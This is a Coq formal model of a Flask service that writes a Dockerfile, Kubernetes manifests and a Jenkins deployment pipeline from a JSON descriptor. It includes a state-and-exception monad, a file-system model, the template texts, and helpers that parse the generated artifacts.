(** * Deployment-artifact generator (app.py): a shallow embedding

    The program is a Flask application with two routes.  The route
    [generate] reads a JSON descriptor and calls [generate_files], which
    writes a container build file and three orchestration manifests below
    [generated/<app_name>].  A second top-level function,
    [write_secret_yaml], holds the secret template and the pipeline
    definition.

    The embedding keeps the shape of the source: texts are Python strings,
    the file system is explicit state threaded through a small
    state-and-exception monad, dictionaries are finite maps.

    What the model leaves out: the file system has directories and
    regular files only (no symbolic links, permissions or disk errors), so
    a path is resolved from its text alone; JSON values are null, integers
    and strings; and Flask is reduced to the two route functions and what
    they return. *)

From Stdlib Require Import ZArith Ascii DecimalString.
From stdpp Require Import gmap strings list.

(** ** Text helpers *)

Module Text.

Definition nl : ascii := "010"%char.
Definition slash : ascii := "/"%char.

(** One double-quote character. *)
Definition dq : string := String "034"%char EmptyString.

(** [s] between double quotes. *)
Definition q (s : string) : string := dq +:+ s +:+ dq.

(** Python [sep.join(parts)]. *)
Definition join (sep : string) (parts : list string) : string :=
  String.concat sep parts.

(** Python [s.split(sep)] for a one-character separator: the result is
    never empty, and an empty input gives one empty field. *)
Fixpoint split_on (sep : ascii) (s : string) : list string :=
  match s with
  | EmptyString => [EmptyString]
  | String c r =>
      if Ascii.eqb c sep then EmptyString :: split_on sep r
      else match split_on sep r with
           | h :: t => String c h :: t
           | [] => [String c EmptyString]
           end
  end.

(** The lines of a text; a text that ends in a newline has a last,
    empty line. *)
Definition lines (s : string) : list string := split_on nl s.

(** [sep] does not occur in [s]. *)
Fixpoint free_of (sep : ascii) (s : string) : bool :=
  match s with
  | EmptyString => true
  | String c r => negb (Ascii.eqb c sep) && free_of sep r
  end.

Definition single_line (s : string) : bool := free_of nl s.

(** Joining the fields of two adjacent texts: the last field of the
    first continues into the first field of the second. *)
Definition glue (l1 l2 : list string) : list string :=
  match l2 with
  | [] => l1
  | h :: t => removelast l1 ++ (List.last l1 EmptyString +:+ h) :: t
  end.

(** A one-line text put in front of the first of some lines. *)
Definition prepend (a : string) (l : list string) : list string :=
  match l with
  | [] => [a]
  | EmptyString :: t => a :: t
  | h :: t => (a +:+ h) :: t
  end.

(** Python [s.startswith(p)]. *)
Fixpoint starts_with (p s : string) : bool :=
  match p, s with
  | EmptyString, _ => true
  | String a p', String b s' => Ascii.eqb a b && starts_with p' s'
  | String _ _, EmptyString => false
  end.

(** The rest of [s] after the prefix [p], when [s] starts with [p]. *)
Fixpoint strip_prefix (p s : string) : option string :=
  match p, s with
  | EmptyString, _ => Some s
  | String a p', String b s' =>
      if Ascii.eqb a b then strip_prefix p' s' else None
  | String _ _, EmptyString => None
  end.

(** Python [s.endswith(c)] for a one-character [c]. *)
Fixpoint ends_with_char (c : ascii) (s : string) : bool :=
  match s with
  | EmptyString => false
  | String x EmptyString => Ascii.eqb x c
  | String _ r => ends_with_char c r
  end.

(** [s] up to the first [c] (all of [s] when there is none). *)
Fixpoint take_until (c : ascii) (s : string) : string :=
  match s with
  | EmptyString => EmptyString
  | String x r => if Ascii.eqb x c then EmptyString else String x (take_until c r)
  end.

(** [s] after the first [c] (empty when there is none). *)
Fixpoint drop_until (c : ascii) (s : string) : string :=
  match s with
  | EmptyString => EmptyString
  | String x r => if Ascii.eqb x c then r else drop_until c r
  end.

(** [s] without its leading blanks. *)
Fixpoint lstrip (s : string) : string :=
  match s with
  | String c r => if Ascii.eqb c " " then lstrip r else s
  | EmptyString => EmptyString
  end.

(** Every occurrence of [pat] in [s] replaced by [rep], left to right
    ([skip] counts the characters of a match still to be dropped). *)
Fixpoint replace_go (pat rep : string) (skip : nat) (s : string) : string :=
  match s with
  | EmptyString => EmptyString
  | String c r =>
      match skip with
      | S k => replace_go pat rep k r
      | O =>
          if starts_with pat s
          then rep +:+ replace_go pat rep (String.length pat - 1) r
          else String c (replace_go pat rep 0 r)
      end
  end.

Definition replace (pat rep s : string) : string := replace_go pat rep 0 s.

End Text.

(** ** JSON values that reach a template *)

(** [request.json] fields are JSON values; the templates format them with
    Python's [str].  An integer prints in decimal, [None] as its name and a
    string as it is. *)
Inductive jsval :=
  | JNull
  | JInt (z : Z)
  | JStr (s : string).

Definition py_str (v : jsval) : string :=
  match v with
  | JNull => "None"
  | JInt z => NilZero.string_of_int (Z.to_int z)
  | JStr s => s
  end.

(** An entry of [envs]: a JSON object with string values, read with
    [e['name']] and [e['secret_id']]. *)
Abbreviation env := (gmap string string).

(** ** Exceptions, state and the monad *)

Inductive exn :=
  | KeyError (key : string)
  | NameError (name : string)
  | TypeError (what : string)
  | FileNotFoundError (path : string)
  | NotADirectoryError (path : string)
  | IsADirectoryError (path : string)
  | FileExistsError (path : string).

Inductive result (A : Type) :=
  | Ok (a : A)
  | Raise (e : exn).
Arguments Ok {A} a.
Arguments Raise {A} e.

(** A node of the file system: a directory or a regular file with its
    text. *)
Inductive entry :=
  | Dir
  | File (content : string).

#[global] Instance entry_eq_dec : EqDecision entry.
Proof. solve_decision. Defined.

(** Resolved paths are lists of components from the root; the root itself
    is the empty list and always exists. *)
Abbreviation path := (list string).
Abbreviation fsmap := (gmap (list string) entry).

(** The process state: working directory, file system, and the log of the
    functions of app.py entered so far (most recent first). *)
Record state := mkState {
  cwd : path;
  fs : fsmap;
  calls : list string
}.

Definition set_fs (m : fsmap) (st : state) : state :=
  {| cwd := cwd st; fs := m; calls := calls st |}.

Definition M (A : Type) : Type := state → result A * state.

Definition ret {A} (a : A) : M A := λ st, (Ok a, st).
Definition raise {A} (e : exn) : M A := λ st, (Raise e, st).
Definition bind {A B} (c : M A) (k : A → M B) : M B :=
  λ st, match c st with
        | (Ok a, st') => k a st'
        | (Raise e, st') => (Raise e, st')
        end.
Definition lift {A} (r : result A) : M A := λ st, (r, st).

(** The monad in stdpp's notation: [x ← c; k] and [c;; k]. *)
#[global] Instance M_ret : MRet M := @ret.
#[global] Instance M_bind : MBind M := λ A B k c, bind c k.

(** [for x in xs: body]. *)
Fixpoint for_each {A} (xs : list A) (body : A → M unit) : M unit :=
  match xs with
  | [] => ret tt
  | x :: r => body x;; for_each r body
  end.

(** [try: c except Exception as e: h e]. *)
Definition try_except {A} (c : M A) (h : exn → M A) : M A :=
  λ st, match c st with
        | (Ok a, st') => (Ok a, st')
        | (Raise e, st') => h e st'
        end.

Definition log_call (f : string) : M unit :=
  λ st, (Ok tt, {| cwd := cwd st; fs := fs st; calls := f :: calls st |}).

(** ** Paths and the file system *)

Module Os.

(** [posixpath.join(a, b)]. *)
Definition path_join (a b : string) : string :=
  if Text.starts_with "/" b then b
  else if bool_decide (a = EmptyString) || Text.ends_with_char Text.slash a
       then a +:+ b
       else a +:+ "/" +:+ b.

(** One component applied to the components resolved so far. *)
Definition norm_step (stack : path) (c : string) : path :=
  if bool_decide (c = EmptyString ∨ c = ".") then stack
  else if bool_decide (c = "..") then removelast stack
  else stack ++ [c].

(** The node a path string names, seen from the working directory
    [wd]: components are split at [/], empty and [.] components are
    skipped and [..] steps to the parent (there are no symbolic
    links). *)
Definition resolve (wd : path) (s : string) : path :=
  fold_left norm_step (Text.split_on Text.slash s)
            (if Text.starts_with "/" s then [] else wd).

Definition parent (p : path) : path := removelast p.

Definition fs_get (m : fsmap) (p : path) : option entry :=
  match p with
  | [] => Some Dir
  | _ => m !! p
  end.

(** The non-empty prefixes of a path, shortest first. *)
Fixpoint prefixes (p : path) : list path :=
  match p with
  | [] => []
  | c :: r => [c] :: map (cons c) (prefixes r)
  end.

Definition is_file (m : fsmap) (p : path) : bool :=
  match fs_get m p with
  | Some (File _) => true
  | _ => false
  end.

(** [os.path.exists(p)]. *)
Definition path_exists (p : string) : M bool :=
  λ st, (Ok (bool_decide (is_Some (fs_get (fs st) (resolve (cwd st) p)))), st).

(** The file system without the node [P] and everything below it. *)
Definition remove_tree (P : path) (m : fsmap) : fsmap :=
  filter (λ kv, ¬ P `prefix_of` kv.1) m.

(** [shutil.rmtree(p)]. *)
Definition rmtree (p : string) : M unit :=
  λ st,
    let P := resolve (cwd st) p in
    match fs_get (fs st) P with
    | Some Dir => (Ok tt, set_fs (remove_tree P (fs st)) st)
    | Some (File _) => (Raise (NotADirectoryError p), st)
    | None => (Raise (FileNotFoundError p), st)
    end.

Definition make_dirs (K : path) (m : fsmap) : fsmap :=
  foldr (λ q acc, <[q := Dir]> acc) m (prefixes K).

(** [os.makedirs(p, exist_ok=True)]. *)
Definition makedirs (p : string) : M unit :=
  λ st,
    let K := resolve (cwd st) p in
    match List.find (is_file (fs st)) (prefixes K) with
    | Some q =>
        (Raise (if bool_decide (q = K) then FileExistsError p
                else NotADirectoryError p), st)
    | None => (Ok tt, set_fs (make_dirs K (fs st)) st)
    end.

(** [open(p, "w")]: the file is created or truncated; the handle is the
    resolved path. *)
Definition open_w (p : string) : M path :=
  λ st,
    let P := resolve (cwd st) p in
    match P with
    | [] => (Raise (IsADirectoryError p), st)
    | _ =>
        match fs_get (fs st) (parent P) with
        | Some Dir =>
            match fs st !! P with
            | Some Dir => (Raise (IsADirectoryError p), st)
            | _ => (Ok P, set_fs (<[P := File EmptyString]> (fs st)) st)
            end
        | Some (File _) => (Raise (NotADirectoryError p), st)
        | None => (Raise (FileNotFoundError p), st)
        end
    end.

Definition append_text (s : string) (e : entry) : entry :=
  match e with
  | File c => File (c +:+ s)
  | Dir => Dir
  end.

(** [f.write(s)] on the handle [h]. *)
Definition fwrite (h : path) (s : string) : M unit :=
  λ st, (Ok tt, set_fs (alter (append_text s) h (fs st)) st).

(** The text of the regular file at [p], if there is one. *)
Definition read_file (st : state) (p : string) : option string :=
  match fs_get (fs st) (resolve (cwd st) p) with
  | Some (File c) => Some c
  | _ => None
  end.

End Os.

(** ** The templates of app.py

    Each definition is the value of one f-string (or string expression) of
    the source, with the interpolated expressions as arguments.  The source
    needs Python 3.12 or later (its f-strings nest quotes and backslashes
    in replacement fields). *)

Module Template.
Import Text.

(** [e['name']] and [e['secret_id']]. *)
Definition subscript (e : env) (key : string) : result string :=
  match e !! key with
  | Some v => Ok v
  | None => Raise (KeyError key)
  end.

(** [[e['name'] for e in envs]]: the first entry without the key
    raises. *)
Fixpoint env_names (envs : list env) : result (list string) :=
  match envs with
  | [] => Ok []
  | e :: r =>
      match subscript e "name" with
      | Raise x => Raise x
      | Ok n =>
          match env_names r with
          | Raise x => Raise x
          | Ok ns => Ok (n :: ns)
          end
      end
  end.

(** app.py lines 15-33, over the names of [envs]. *)
Definition dockerfile (names : list string) : string :=
"FROM node:20-slim

WORKDIR /app

COPY package*.json ./
RUN npm ci --ignore-scripts && npm cache clean --force
COPY . .

" +:+ join EmptyString (map (λ n, "ARG " +:+ n +:+ "
") names) +:+ "
ARG PORT

ENV " +:+ join " \
    " (map (λ n, n +:+ "=${" +:+ n +:+ "}") names) +:+ " \
    PORT=${PORT}

EXPOSE ${PORT}

USER node
CMD [" +:+ q "node" +:+ ", " +:+ q "dist/main" +:+ ", " +:+ q "--port" +:+ ", " +:+ q "${PORT}" +:+ "]
".

(** app.py lines 37-97. *)
Definition deployment (app_name : string) (port : jsval) : string :=
"apiVersion: apps/v1
kind: Deployment
metadata:
  name: " +:+ app_name +:+ "
  namespace: pnud-agvm
  labels:
    app: " +:+ app_name +:+ "
spec:
  replicas: 1
  selector:
    matchLabels:
      app: " +:+ app_name +:+ "
  template:
    metadata:
      labels:
        app: " +:+ app_name +:+ "
    spec:
      containers:
        - name: " +:+ app_name +:+ "
          image: ${FULL_IMAGE_NAME}
          imagePullPolicy: Always
          ports:
            - containerPort: " +:+ py_str port +:+ "
              name: http
          envFrom:
            - secretRef:
                name: " +:+ app_name +:+ "-secret
          resources:
            requests:
              cpu: " +:+ q "200m" +:+ "
              memory: " +:+ q "256Mi" +:+ "
            limits:
              cpu: " +:+ q "1000m" +:+ "
              memory: " +:+ q "1Gi" +:+ "
          livenessProbe:
            httpGet:
              path: /" +:+ app_name +:+ "
              port: http
            initialDelaySeconds: 30
            periodSeconds: 10
            timeoutSeconds: 5
            failureThreshold: 3
          readinessProbe:
            httpGet:
              path: /" +:+ app_name +:+ "
              port: http
            initialDelaySeconds: 5
            periodSeconds: 5
            timeoutSeconds: 3
            failureThreshold: 3
          securityContext:
            runAsNonRoot: true
            runAsUser: 1000
            allowPrivilegeEscalation: false
            readOnlyRootFilesystem: true
            capabilities:
              drop:
                - ALL
      imagePullSecrets:
        - name: harbor-registry-secret
".

(** app.py lines 101-115. *)
Definition service (app_name : string) (port node_port : jsval) : string :=
"apiVersion: v1
kind: Service
metadata:
  name: " +:+ app_name +:+ "-service
  namespace: pnud-agvm
spec:
  type: NodePort
  selector:
    app: " +:+ app_name +:+ "
  ports:
    - protocol: TCP
      port: " +:+ py_str port +:+ "
      targetPort: " +:+ py_str port +:+ "
      nodePort: " +:+ py_str node_port +:+ "
".

(** app.py lines 119-138. *)
Definition hpa (app_name : string) : string :=
"apiVersion: autoscaling/v2
kind: HorizontalPodAutoscaler
metadata:
  name: " +:+ app_name +:+ "-hpa
  namespace: pnud-agvm
spec:
  scaleTargetRef:
    apiVersion: apps/v1
    kind: Deployment
    name: " +:+ app_name +:+ "
  minReplicas: 1
  maxReplicas: 5
  metrics:
  - type: Resource
    resource:
      name: cpu
      target:
        type: Utilization
        averageUtilization: 50
".

(** app.py lines 143-150. *)
Definition secret_header (app_name : string) : string :=
"apiVersion: v1
kind: Secret
metadata:
  name: " +:+ app_name +:+ "-secret
  namespace: ${NAMESPACE}
type: Opaque
stringData:
".

(** app.py line 152. *)
Definition secret_entry (var : string) : string :=
  "  " +:+ var +:+ ": " +:+ q ("${" +:+ var +:+ "}") +:+ "
".

(** app.py lines 156-180. *)
Definition jenkins_environment (app_name : string) (port node_port : jsval)
    (names : list string) : string :=
"pipeline {
    agent any
    environment {
        REGISTRY         = 'harbor.tsirylab.com'
        HARBOR_PROJECT   = 'pnud-agvm'
        IMAGE_NAME       = '" +:+ app_name +:+ "'
        IMAGE_TAG        = " +:+ q "\${BUILD_NUMBER}" +:+ "
        FULL_IMAGE_NAME  = " +:+ q "\${REGISTRY}/\${HARBOR_PROJECT}/\${IMAGE_NAME}:\${IMAGE_TAG}" +:+ "
        NAMESPACE        = 'pnud-agvm'
        K8S_DIR          = 'k8s'
        DEPLOYMENT_NAME  = '" +:+ app_name +:+ "'
        SERVICE_NAME     = '" +:+ app_name +:+ "-service'
        HPA_NAME         = '" +:+ app_name +:+ "-hpa'
        SECRET_NAME      = '" +:+ app_name +:+ "-secret'
        PORT             = '" +:+ py_str port +:+ "'
        NODE_PORT        = '" +:+ py_str node_port +:+ "'
" +:+ join EmptyString (map (λ n, "        " +:+ n +:+ " = ''
") names) +:+ "
    }
    stages {
        stage('Build & Push') {
            steps {
                withCredentials([
                    usernamePassword(credentialsId: 'harbor-credentials',
                                     usernameVariable: 'HARBOR_USER',
                                     passwordVariable: 'HARBOR_PASS'),
".

(** app.py lines 183 and 211. *)
Definition jenkins_credential (secret_id name : string) : string :=
  "                    string(credentialsId: '" +:+ secret_id +:+
  "', variable: '" +:+ name +:+ "'),
".

(** app.py lines 184-189. *)
Definition jenkins_build_open : string :=
"                ]) {
                    sh '''
                        set -e
                        docker logout \${REGISTRY} || true
                        docker build \
".

(** app.py line 191. *)
Definition jenkins_build_arg (name : string) : string :=
  "                          --build-arg " +:+ name +:+ "=" +:+
  q ("\${" +:+ name +:+ "}") +:+ " \
".

(** app.py lines 193-209. *)
Definition jenkins_build_close (port : jsval) : string :=
"                          --build-arg PORT=" +:+ py_str port +:+ " \
                          -t \${FULL_IMAGE_NAME} .
                        echo \${HARBOR_PASS} | \
                          docker login -u \${HARBOR_USER} --password-stdin \${REGISTRY}
                        docker push \${FULL_IMAGE_NAME}
                        docker logout \${REGISTRY}
                    '''
                }
            }
        }
        stage('Deploy') {
            steps {
                withCredentials([
                    file(credentialsId: 'kubeconfig-jenkins', variable: 'KUBECONFIG'),
                    usernamePassword(credentialsId: 'harbor-credentials',
                                     usernameVariable: 'HARBOR_USER',
                                     passwordVariable: 'HARBOR_PASS'),
".

(** app.py lines 212-227. *)
Definition jenkins_deploy_open : string :=
"                ]) {
                    sh '''
                        set -e
                        export KUBECONFIG=\${KUBECONFIG}

                        kubectl create namespace \${NAMESPACE} --dry-run=client -o yaml | kubectl apply -f -
                        kubectl delete secret harbor-registry-secret -n \${NAMESPACE} --ignore-not-found
                        kubectl create secret docker-registry harbor-registry-secret \
                          --docker-server=\${REGISTRY} \
                          --docker-username=" +:+ q "\${HARBOR_USER}" +:+ " \
                          --docker-password=" +:+ q "\${HARBOR_PASS}" +:+ " \
                          --namespace=\${NAMESPACE}

                        kubectl delete secret \${SECRET_NAME} -n \${NAMESPACE} --ignore-not-found
                        kubectl create secret generic \${SECRET_NAME} \
".

(** app.py line 229. *)
Definition jenkins_from_literal (name : string) : string :=
  "                          --from-literal=" +:+ name +:+ "=" +:+
  q ("\${" +:+ name +:+ "}") +:+ " \
".

(** app.py lines 230-246: plain strings around [app_name], so the
    doubled braces of the last lines are written as they stand. *)
Definition jenkins_deploy_close (app_name : string) : string :=
"                          --namespace=\${NAMESPACE}

                        for res in deployment service hpa; do
                            envsubst < \${K8S_DIR}/" +:+ app_name +:+ "-${res}.yaml > /tmp/" +:+ app_name +:+ "-${res}.yaml
                            kubectl apply -f /tmp/" +:+ app_name +:+ "-${res}.yaml
                        done

                        kubectl rollout status deployment/" +:+ app_name +:+ " -n \${NAMESPACE} --timeout=120s
                        kubectl get pods -n \${NAMESPACE} -l app=" +:+ app_name +:+ "
                    '''
                }}
            }}
        }}
    }}
    post {{ always {{ cleanWs() }} }}
}}
".

End Template.

(** ** The functions of app.py *)

(** app.py lines 7-138.  Each [with open(...) as f: f.write(text)] opens
    (and truncates) the file first, then evaluates [text], then writes. *)
Definition generate_files (app_name : string) (port node_port : jsval)
    (envs : list env) (output_dir : string) : M unit :=
  log_call "generate_files";;
  let k8s_dir := Os.path_join output_dir "k8s" in
  present ← Os.path_exists output_dir;
  (if present : bool then Os.rmtree output_dir else ret tt);;
  Os.makedirs k8s_dir;;
  f ← Os.open_w (Os.path_join output_dir "Dockerfile");
  names ← lift (Template.env_names envs);
  Os.fwrite f (Template.dockerfile names);;
  f ← Os.open_w (Os.path_join k8s_dir (app_name +:+ ".yaml"));
  Os.fwrite f (Template.deployment app_name port);;
  f ← Os.open_w (Os.path_join k8s_dir (app_name +:+ "-service.yaml"));
  Os.fwrite f (Template.service app_name port node_port);;
  f ← Os.open_w (Os.path_join k8s_dir (app_name +:+ "-hpa.yaml"));
  Os.fwrite f (Template.hpa app_name).

(** The module-level bindings of the names that the body of
    [write_secret_yaml] uses without defining them: [None] is an unbound
    name. *)
Record globals := mkGlobals {
  g_output_dir : option string;
  g_port : option jsval;
  g_node_port : option jsval;
  g_envs : option (list env)
}.

(** app.py assigns none of the four names at module level. *)
Definition module_globals : globals :=
  {| g_output_dir := None; g_port := None; g_node_port := None; g_envs := None |}.

(** Reading a global name. *)
Definition global {A} (binding : option A) (name : string) : M A :=
  match binding with
  | Some v => ret v
  | None => raise (NameError name)
  end.

(** app.py lines 141-246, run with the module bindings [g]. *)
Definition write_secret_yaml (g : globals) (app_name : string)
    (var_names : list string) (output_path : string) : M unit :=
  log_call "write_secret_yaml";;
  f ← Os.open_w output_path;
  Os.fwrite f (Template.secret_header app_name);;
  for_each var_names (λ var, Os.fwrite f (Template.secret_entry var));;
  output_dir ← global (g_output_dir g) "output_dir";
  f ← Os.open_w (Os.path_join output_dir "Jenkinsfile");
  port ← global (g_port g) "port";
  node_port ← global (g_node_port g) "node_port";
  envs ← global (g_envs g) "envs";
  names ← lift (Template.env_names envs);
  Os.fwrite f (Template.jenkins_environment app_name port node_port names);;
  for_each envs (λ e,
    sid ← lift (Template.subscript e "secret_id");
    n ← lift (Template.subscript e "name");
    Os.fwrite f (Template.jenkins_credential sid n));;
  Os.fwrite f Template.jenkins_build_open;;
  for_each envs (λ e,
    n ← lift (Template.subscript e "name");
    Os.fwrite f (Template.jenkins_build_arg n));;
  Os.fwrite f (Template.jenkins_build_close port);;
  for_each envs (λ e,
    sid ← lift (Template.subscript e "secret_id");
    n ← lift (Template.subscript e "name");
    Os.fwrite f (Template.jenkins_credential sid n));;
  Os.fwrite f Template.jenkins_deploy_open;;
  for_each envs (λ e,
    n ← lift (Template.subscript e "name");
    Os.fwrite f (Template.jenkins_from_literal n));;
  Os.fwrite f (Template.jenkins_deploy_close app_name).

(** The body of a POST to [/generate]: [data.get] gives [None] for an
    absent field and [[]] for absent [envs]. *)
Record request_json := mkRequest {
  rq_app_name : option string;
  rq_port : jsval;
  rq_node_port : jsval;
  rq_envs : option (list env)
}.

(** What a route returns: a rendered page, the success document (status
    200, [success] true, a message), or the failure document (status 500,
    [success] false, the message [str(e)]). *)
Inductive response :=
  | Page (template : string)
  | Success (message : string)
  | Failure (e : exn).


(** app.py lines 252-264.  [os.path.join] is outside the [try]: with no
    [app_name] it raises a [TypeError] that the route does not catch. *)
Definition generate (data : request_json) : M response :=
  log_call "generate";;
  let port := rq_port data in
  let node_port := rq_node_port data in
  let envs := default [] (rq_envs data) in
  match rq_app_name data with
  | None => raise (TypeError
                     "join() argument must be str, bytes, or os.PathLike object, not 'NoneType'")
  | Some app_name =>
      let output_dir := Os.path_join "generated" app_name in
      try_except
        (generate_files app_name port node_port envs output_dir;;
         ret (Success ("Fichiers générés dans " +:+ output_dir)))
        (λ e, ret (Failure e))
  end.

(** ** Reading the artifacts back *)

(** A reader for the block-style YAML of the templates: nesting by
    indentation, one [key: value] per line, a sequence dash counting as
    indentation. *)
Module Yaml.
Import Text.

Fixpoint indent (s : string) : nat :=
  match s with
  | String c r =>
      if Ascii.eqb c " " then S (indent r)
      else if Ascii.eqb c "-" && starts_with " " r then S (indent r)
      else 0
  | EmptyString => 0
  end.

Fixpoint body (s : string) : string :=
  match s with
  | String c r =>
      if Ascii.eqb c " " then body r
      else if Ascii.eqb c "-" && starts_with " " r then body r
      else s
  | EmptyString => EmptyString
  end.

Definition key (line : string) : string := take_until ":" (body line).
(** The text after the colon and the blank that follows it. *)
Definition value (line : string) : string :=
  match drop_until ":" (body line) with
  | String " " r => r
  | r => r
  end.

(** The lines nested below a line of indentation [i]. *)
Fixpoint block (i : nat) (ls : list string) : list string :=
  match ls with
  | l :: r => if i <? indent l then l :: block i r else []
  | [] => []
  end.

(** The first entry [k] at indentation [i]: its value and its block. *)
Fixpoint find_key (i : nat) (k : string) (ls : list string)
    : option (string * list string) :=
  match ls with
  | [] => None
  | l :: r =>
      if (indent l =? i) && bool_decide (key l = k)
      then Some (value l, block i r)
      else find_key i k r
  end.

(** The value at a path of keys. *)
Fixpoint get_lines (keys : list string) (ls : list string) : option string :=
  match keys with
  | [] => None
  | k :: ks =>
      match find_key (indent (List.hd EmptyString ls)) k ls with
      | None => None
      | Some (v, b) =>
          match ks with
          | [] => Some v
          | _ => get_lines ks b
          end
      end
  end.

(** The keys of the mapping at a path of keys. *)
Fixpoint keys_lines (keys : list string) (ls : list string) : option (list string) :=
  match keys with
  | [] =>
      let i := indent (List.hd EmptyString ls) in
      Some (map key (List.filter (λ l, indent l =? i) ls))
  | k :: ks =>
      match find_key (indent (List.hd EmptyString ls)) k ls with
      | None => None
      | Some (_, b) => keys_lines ks b
      end
  end.

Definition get (keys : list string) (text : string) : option string :=
  get_lines keys (lines text).

Definition keys_at (keys : list string) (text : string) : option (list string) :=
  keys_lines keys (lines text).

End Yaml.

(** The container build file: its declared build arguments, in order. *)
Module Dockerfile.

Definition build_args (text : string) : list string :=
  omap (Text.strip_prefix "ARG ") (Text.lines text).

End Dockerfile.

(** The pipeline definition: what it binds, passes and reads. *)
Module Pipeline.
Import Text.

(** The lines of the build stage: those before the deploy stage. *)
Fixpoint build_stage (ls : list string) : list string :=
  match ls with
  | [] => []
  | l :: r => if starts_with "stage('Deploy')" (lstrip l) then [] else l :: build_stage r
  end.

(** The variables bound with [string(credentialsId: .., variable: ..)]
    in the build stage. *)
Definition credential_vars (text : string) : list string :=
  omap (λ l,
          if starts_with "string(credentialsId: " (lstrip l)
          then option_map (take_until "'") (strip_prefix "variable: '" (lstrip (drop_until "," l)))
          else None)
       (build_stage (lines text)).

(** The names passed with [--build-arg] to the build step. *)
Definition build_args (text : string) : list string :=
  omap (λ l, option_map (take_until "=") (strip_prefix "--build-arg " (lstrip l)))
       (lines text).

(** The value of a variable of the [environment] block. *)
Definition environment_value (var : string) (text : string) : option string :=
  List.hd_error
    (omap (λ l,
             match strip_prefix var (lstrip l) with
             | Some rest =>
                 option_map (take_until "'") (strip_prefix "= '" (lstrip rest))
             | None => None
             end)
          (lines text)).

(** The resources the deploy loop ranges over. *)
Definition loop_resources (text : string) : list string :=
  match omap (λ l, strip_prefix "for res in " (lstrip l)) (lines text) with
  | l :: _ => split_on " " (take_until ";" l)
  | [] => []
  end.

(** The manifest files the deploy stage reads with [envsubst <], as
    paths relative to the root of the bundle. *)
Definition manifest_reads (text : string) : list string :=
  match omap (λ l, strip_prefix "envsubst < " (lstrip l)) (lines text),
        environment_value "K8S_DIR" text with
  | l :: _, Some k8s =>
      map (λ res, replace "${res}" res (replace "\${K8S_DIR}" k8s (take_until " " l)))
          (loop_resources text)
  | _, _ => []
  end.

End Pipeline.

(** ** Descriptors

    The source has no validator; [valid_descriptor] is the data model of
    the specification (section 3), used as the hypothesis of the
    properties that the specification states for valid descriptors. *)

Definition is_label_char (c : ascii) : bool :=
  let n := nat_of_ascii c in
  ((97 <=? n) && (n <=? 122)) || ((48 <=? n) && (n <=? 57)) || (n =? 45).

Fixpoint all_chars (f : ascii → bool) (s : string) : bool :=
  match s with
  | EmptyString => true
  | String c r => f c && all_chars f r
  end.

(** A DNS-label-like name: lowercase letters, digits and hyphens, not
    empty, at most 63 characters. *)
Definition safe_identifier (s : string) : bool :=
  negb (bool_decide (s = EmptyString)) && all_chars is_label_char s
  && (String.length s <=? 63).

Definition port_in (lo hi : Z) (v : jsval) : bool :=
  match v with
  | JInt z => (lo <=? z)%Z && (z <=? hi)%Z
  | _ => false
  end.

Definition env_complete (e : env) : bool :=
  bool_decide (is_Some (e !! "name")) && bool_decide (is_Some (e !! "secret_id")).

(** The [name] fields present in [envs]. *)
Definition declared_names (envs : list env) : list string :=
  omap (λ e : env, e !! "name") envs.

Definition valid_descriptor (app_name : string) (port node_port : jsval)
    (envs : list env) : bool :=
  safe_identifier app_name
  && port_in 1 65535 port
  && port_in 30000 32767 node_port
  && forallb env_complete envs
  && bool_decide (NoDup (declared_names envs)).

(** A name that is one path component. *)
Definition path_component (s : string) : bool :=
  negb (bool_decide (s = EmptyString ∨ s = "." ∨ s = ".."))
  && Text.free_of Text.slash s.

(** The file system is a tree: the root is not stored, and every stored
    node has a directory as its parent. *)
Definition fs_wf (m : fsmap) : Prop :=
  map_Forall (λ p _, p ≠ [] ∧ Os.fs_get m (Os.parent p) = Some Dir) m.

(** What [generate] needs from its surroundings to write below
    [generated/<app_name>]: a tree, an existing working directory, and no
    regular file in the way. *)
Definition destination_free (st : state) (app_name : string) : Prop :=
  fs_wf (fs st)
  ∧ Os.fs_get (fs st) (cwd st) = Some Dir
  ∧ Os.is_file (fs st) (cwd st ++ ["generated"]) = false
  ∧ Os.is_file (fs st) (cwd st ++ ["generated"; app_name]) = false.

(** The destination of a request, and the paths of its artifacts. *)
Definition destination (app_name : string) : string :=
  Os.path_join "generated" app_name.

Definition dockerfile_path (output_dir : string) : string :=
  Os.path_join output_dir "Dockerfile".
Definition k8s_path (output_dir file : string) : string :=
  Os.path_join (Os.path_join output_dir "k8s") file.
Definition deployment_path (output_dir app_name : string) : string :=
  k8s_path output_dir (app_name +:+ ".yaml").
Definition service_path (output_dir app_name : string) : string :=
  k8s_path output_dir (app_name +:+ "-service.yaml").
Definition hpa_path (output_dir app_name : string) : string :=
  k8s_path output_dir (app_name +:+ "-hpa.yaml").
Definition jenkinsfile_path (output_dir : string) : string :=
  Os.path_join output_dir "Jenkinsfile".

(** ** The two phases of [generate_files] *)

(** Lines 8-11: clearing and creating the destination. *)
Definition prepare (output_dir : string) : M unit :=
  present ← Os.path_exists output_dir;
  (if present : bool then Os.rmtree output_dir else ret tt);;
  Os.makedirs (Os.path_join output_dir "k8s").

(** Lines 13-138: the four artifacts, one after the other. *)
Definition render (app_name : string) (port node_port : jsval)
    (envs : list env) (output_dir : string) : M unit :=
  let k8s_dir := Os.path_join output_dir "k8s" in
  f ← Os.open_w (Os.path_join output_dir "Dockerfile");
  names ← lift (Template.env_names envs);
  Os.fwrite f (Template.dockerfile names);;
  f ← Os.open_w (Os.path_join k8s_dir (app_name +:+ ".yaml"));
  Os.fwrite f (Template.deployment app_name port);;
  f ← Os.open_w (Os.path_join k8s_dir (app_name +:+ "-service.yaml"));
  Os.fwrite f (Template.service app_name port node_port);;
  f ← Os.open_w (Os.path_join k8s_dir (app_name +:+ "-hpa.yaml"));
  Os.fwrite f (Template.hpa app_name).

(** The bundle of a call: the files that [generate_files] writes, each
    with its path and its text, in the order of writing.  The build file
    stays empty when an entry of [envs] has no name. *)
Definition dockerfile_text (envs : list env) : string :=
  match Template.env_names envs with
  | Ok names => Template.dockerfile names
  | Raise _ => EmptyString
  end.

Definition artifacts (app_name : string) (port node_port : jsval)
    (envs : list env) (output_dir : string) : list (string * string) :=
  [ (dockerfile_path output_dir, dockerfile_text envs);
    (deployment_path output_dir app_name, Template.deployment app_name port);
    (service_path output_dir app_name, Template.service app_name port node_port);
    (hpa_path output_dir app_name, Template.hpa app_name) ].

(** The file system after writing the files [ws], first to last, from
    the working directory [wd]. *)
Definition written (wd : path) (ws : list (string * string)) (m : fsmap) : fsmap :=
  foldl (λ acc w, <[Os.resolve wd w.1 := File w.2]> acc) m ws.

